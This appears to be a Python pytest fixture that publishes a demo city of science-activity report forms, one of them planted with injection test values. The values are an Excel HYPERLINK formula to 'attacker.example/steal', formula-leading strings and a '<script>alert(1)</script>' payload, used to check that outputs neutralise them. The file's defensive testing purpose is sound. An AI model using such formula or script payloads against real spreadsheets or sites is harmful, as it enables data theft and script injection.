"""The published demo city the deliverables tests read: the demo inbox plus one planted form whose
text tries to become formulas and markup, run once through the real nightly flow.

Built once per test session (the first module that asks builds it) and shared read-only.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd

from kepu.demo.forms import fill_form
from kepu.form.template import DETAIL_SHEET, FIRST_DATA_ROW
from kepu.demo.city import build_demo_city, plan_demo_city
from kepu.settings import Settings, load_settings
from tests.builders import built_once, set_received

HYPERLINK = '=HYPERLINK("http://attacker.example/steal","点我查看")'
FORMULA_NAMES = (HYPERLINK, "+1 科普讲座进社区", "-2 科普展览", "@SUM(A1:A9) 健康义诊")
FORMULA_PARTICIPANTS = "=1+2"
MARKUP_PARTICIPANTS = "<script>alert(1)</script>"
PLANTED_FILE = "双流区/公式试探.xlsx"


@dataclass(frozen=True)
class PublishedCity:
    root: Path
    settings: Settings
    outputs: list[Path]
    planted_unit: tuple[str, str]
    """(unit_code, unit_name) of the unit the planted form is signed by."""

    @property
    def out(self) -> Path:
        return self.settings.campaign_out

    def query(self, sql: str, *params) -> pd.DataFrame:
        con = duckdb.connect(str(self.settings.warehouse), read_only=True)
        try:
            return con.execute(sql, list(params)).df()
        finally:
            con.close()


def planted_activities() -> list[dict]:
    rows = [{"activity_name": name, "activity_type": "讲座报告", "start_date": date(2023, 9, 18 + i),
             "venue": f"东升社区活动室{i}", "participants": 100 + i, "volunteers": 5, "note": "-3 备注"}
            for i, name in enumerate(FORMULA_NAMES)]
    rows += [
        {"activity_name": "参与人数写成公式", "activity_type": "培训", "start_date": date(2023, 9, 20),
         "participants": FORMULA_PARTICIPANTS},
        {"activity_name": "参与人数写成标记", "activity_type": "培训", "start_date": date(2023, 9, 21),
         "participants": MARKUP_PARTICIPANTS},
        {"activity_name": "约数活动", "activity_type": "展览展示", "start_date": date(2023, 9, 22),
         "participants": "约500", "boards": 12},
    ]
    return rows


def plant_form(inbox: Path, unit_code: str, unit_name: str) -> Path:
    """A form whose formula-like texts are text cells, the way a unit that typed them with a leading
    apostrophe (or pasted them from a CSV) sends them: openpyxl alone would store them as formulas."""
    path = fill_form(inbox / PLANTED_FILE, campaign_name="2023年全国科普日", unit_name=unit_name,
                     unit_code=unit_code, reported_on=date(2023, 9, 24), activities=planted_activities())
    wb = openpyxl.load_workbook(path)
    for row in wb[DETAIL_SHEET].iter_rows(min_row=FIRST_DATA_ROW):
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
    wb.save(path)
    set_received(path, datetime(2023, 9, 25, 9, 30))
    return path


def silent_unit(root: Path) -> tuple[str, str]:
    """An expected town or street of the demo city that sent nothing."""
    plan = plan_demo_city(seed=2023)
    senders = {f.unit.code for f in plan.files if f.unit is not None}
    unit = next(u for u in plan.units if u.expected and u.unit_type in ("town", "street") and u.code not in senders)
    return unit.code, unit.name


_built: dict[str, PublishedCity] = {}


def published_city(tmp_path_factory) -> PublishedCity:
    """The demo city with the planted form, published by the nightly flow (needs the Prefect harness); built
    once for all the session's workers."""
    if "city" not in _built:
        _built["city"] = built_once(tmp_path_factory, "deliverables-city", _publish_city)
    return _built["city"]


def _publish_city(root: Path) -> PublishedCity:
    from kepu.flows.nightly import run

    city = build_demo_city(root)
    unit = silent_unit(root)
    plant_form(city.root / "inbox", *unit)
    summary = run(city.config_path)
    return PublishedCity(root, load_settings(city.config_path), [Path(p) for p in summary.outputs], unit)
